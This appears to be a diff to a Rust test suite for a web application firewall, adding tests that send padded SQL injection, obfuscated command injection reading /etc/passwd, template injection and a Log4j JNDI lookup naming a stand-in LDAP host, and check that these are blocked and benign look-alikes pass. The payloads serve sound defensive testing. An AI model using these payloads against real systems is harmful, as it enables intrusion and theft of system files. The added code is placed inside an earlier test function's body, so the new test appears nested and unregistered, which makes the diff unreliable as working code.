@@ -310,11 +310,27 @@ async fn paranoia_is_per_site_and_emergency_mode_raises_it() {
 #[tokio::test]
 async fn bodies_past_the_inspection_limit_follow_the_sites_action() {
     let (server, _upstream, token) = waf_server("").await;
+
+    // The default limit (128 KiB) and action: a form or JSON body past it
+    // is refused, so an SQLi after 130 KiB of padding cannot slip by.
+    let mut padded = b"pad=".to_vec();
+    padded.resize(130 * 1024, b'a');
+    padded.extend_from_slice(format!("&q={}", urlencode(SQLI)).as_bytes());
+    let r = post(&server, "application/x-www-form-urlencoded", padded).await;
+    assert_blocked_by(&server, r, "1011").await;
+    let padded_json = json!({"pad": "a".repeat(130 * 1024), "q": SQLI}).to_string();
+    let r = post(&server, "application/json", padded_json).await;
+    assert_blocked_by(&server, r, "1011").await;
+    // An upload past the limit is not refused: only its prefix is read.
+    let (ct, body) = multipart("title", "photo", &vec![b'x'; 200 * 1024]);
+    let len = body.len();
+    assert_forwarded(post(&server, &ct, body).await, len).await;
+
     set_waf(
         &server,
         &token,
         "app.localhost",
-        json!({"body_limit": 1024}),
+        json!({"body_limit": 1024, "oversize": "inspect-prefix"}),
     )
     .await;
 
@@ -450,4 +466,101 @@ async fn a_waf_burst_from_one_ip_opens_a_high_incident() {
     // The audit log truncates client IPs by default; either form names
     // the attacker's address and no other.
     assert!(ips == ["127.0.0.9"] || ips == ["127.0.0.0"], "{incident}");
+/// Asserts a block whose `waf.block` audit event names `rule`.
+async fn assert_blocked_by(server: &Server, response: reqwest::Response, rule: &str) {
+    let id = assert_blocked(response).await;
+    wait_for_log(server, &format!("request_id={id}")).await;
+    let line = server
+        .log()
+        .lines()
+        .find(|l| l.contains("waf.block") && l.contains(&id))
+        .map(str::to_owned)
+        .expect("waf.block event with the request id");
+    let rules = line
+        .split_whitespace()
+        .find_map(|w| w.strip_prefix("rules="))
+        .unwrap_or_default()
+        .trim_matches('"')
+        .to_owned();
+    assert!(
+        rules.split(',').any(|r| r == rule),
+        "rule {rule} missing: {line}"
+    );
+}
+
+#[tokio::test]
+async fn attacks_in_the_path_user_agent_any_header_and_templates_are_blocked() {
+    let (server, upstream, _token) = waf_server("").await;
+    let client = client_from("127.0.0.1");
+
+    // SQL injection in a path segment.
+    let r = get(
+        &server,
+        &client,
+        "app.localhost",
+        "/item/1'%20OR%20'1'='1",
+        &[],
+    )
+    .await;
+    assert_blocked_by(&server, r, "2004").await;
+    // SQL injection in the User-Agent.
+    let ua = [("user-agent", "' UNION SELECT password FROM users--")];
+    assert_blocked_by(
+        &server,
+        get(&server, &client, "app.localhost", "/", &ua).await,
+        "2002",
+    )
+    .await;
+    // Command injection hidden with quotes, backslashes and expansions.
+    for h in [
+        "x;c''at%20/e''tc/pa''sswd",
+        "x;c%5Cat%20/etc/passwd",
+        "x;c$@at%20/etc/passwd",
+        "x;cat${IFS}/etc/passwd",
+    ] {
+        let r = get(
+            &server,
+            &client,
+            "app.localhost",
+            &format!("/run?h={h}"),
+            &[],
+        )
+        .await;
+        assert_blocked_by(&server, r, "5001").await;
+    }
+    // Server-side template injection.
+    let r = get(
+        &server,
+        &client,
+        "app.localhost",
+        "/hello?n={{7*7}}{{config.__class__}}",
+        &[],
+    )
+    .await;
+    assert_blocked_by(&server, r, "7001").await;
+    // A Log4j lookup in a header nobody configured.
+    let jndi = [("x-api-version", "${jndi:ldap://x/a}")];
+    assert_blocked_by(
+        &server,
+        get(&server, &client, "app.localhost", "/", &jndi).await,
+        "7004",
+    )
+    .await;
+    assert_eq!(upstream.count().await, 0, "no attack reached the upstream");
+
+    // Their benign look-alikes pass.
+    let browser = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 \
+                   (KHTML, like Gecko) Chrome/120.0 Safari/537.36";
+    for (path, headers) in [
+        ("/blog/don't-panic-it's-fine", vec![]),
+        ("/item/42", vec![("user-agent", browser)]),
+        ("/search?q=it's%20O'Brien's%20cat", vec![]),
+        (
+            "/docs?q=use%20{{%20user.name%20}}%20in%20templates",
+            vec![("x-note", "price is ${amount}")],
+        ),
+    ] {
+        let r = get(&server, &client, "app.localhost", path, &headers).await;
+        assert_forwarded(r, 0).await;
+    }
 }
